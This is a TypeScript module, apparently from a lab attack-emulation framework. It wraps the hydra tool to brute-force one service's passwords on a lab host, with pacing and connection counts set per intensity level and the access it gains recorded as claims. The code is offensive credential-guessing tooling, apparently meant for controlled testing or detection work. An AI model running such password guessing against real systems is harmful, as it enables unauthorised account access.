/** Guessing one service's passwords with hydra: what differs between services is in a line of words. */
import { type Attack, intensities } from '../contracts.ts';
import type { LabHost } from '../lab.ts';
import { claimOn, hydraPace, paces, passwordFile, runHydra, withoutFolder } from './guesses.ts';

export type Guessing = {
  readonly kind: string;
  readonly summary: string;
  readonly target: string;
  readonly actor?: string;
  readonly user: string;
  readonly password: string;
  readonly port: number;
  /** Connections at once for the loud: servers that punish wrong passwords with waiting need more of them. */
  readonly loudTasks?: number;
  /** 'ssh://192.0.2.40' … and what else hydra wants to know. */
  readonly service: (target: LabHost) => readonly string[];
};

export function hydraAttack(guessing: Guessing): Attack {
  const { kind, summary, target, actor = 'guest', user, password, port, service, loudTasks } = guessing;
  return {
    kind,
    summary,
    needs: ['hydra'],
    intensities,
    actor,
    targets: [target],
    async run(order) {
      const first = order.targets[0] ?? order.lab.host(target);
      const { path } = passwordFile(order, password);
      const pace = paces[order.intensity];
      const isPatient = order.intensity === 'loud' && loudTasks !== undefined;
      const words = [
        ...hydraPace(isPatient ? { tasks: loudTasks } : pace),
        '-l',
        user,
        '-P',
        path,
        ...service(first),
      ];
      await runHydra(order, words);
      return {
        tool: 'hydra',
        arguments: withoutFolder(words, order.actor),
        claims: [claimOn(order.actor, [first], port)],
      };
    },
  };
}
